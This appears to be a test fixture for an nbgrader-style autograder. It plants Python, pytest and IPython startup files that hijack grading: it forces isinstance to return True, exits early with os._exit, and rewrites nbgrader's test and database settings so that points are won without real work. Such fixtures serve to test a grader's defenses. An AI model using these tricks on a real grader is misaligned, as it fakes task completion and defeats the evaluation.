# attack: Files that Python, IPython, pytest and matplotlib read at their start: sitecustomize, .pth, startup, conftest, matplotlibrc.
# wants: points
# assignment: 03_multivariable
# expects: graded
# %% file sitecustomize.py
import builtins
builtins.isinstance = lambda *args: True
# %% file usercustomize.py
raise SystemExit
# %% file course.pth
import os; os._exit(0)
# %% file conftest.py
raise SystemExit
# %% file matplotlibrc
backend: module://conftest
# %% file .ipython/profile_default/startup/00.py
get_ipython().ast_transformers.append(None)
# %% file ipython_config.py
c = get_config(); c.InteractiveShellApp.exec_lines = ["import os; os._exit(0)"]
# %% file nbgrader_config.py
c = get_config(); c.Execute.tests = "in_kernel"; c.CourseDirectory.db_url = "sqlite:///@SENTINEL@"
# %% file pyproject.toml
[tool.nbgrader]
tests = "in_kernel"
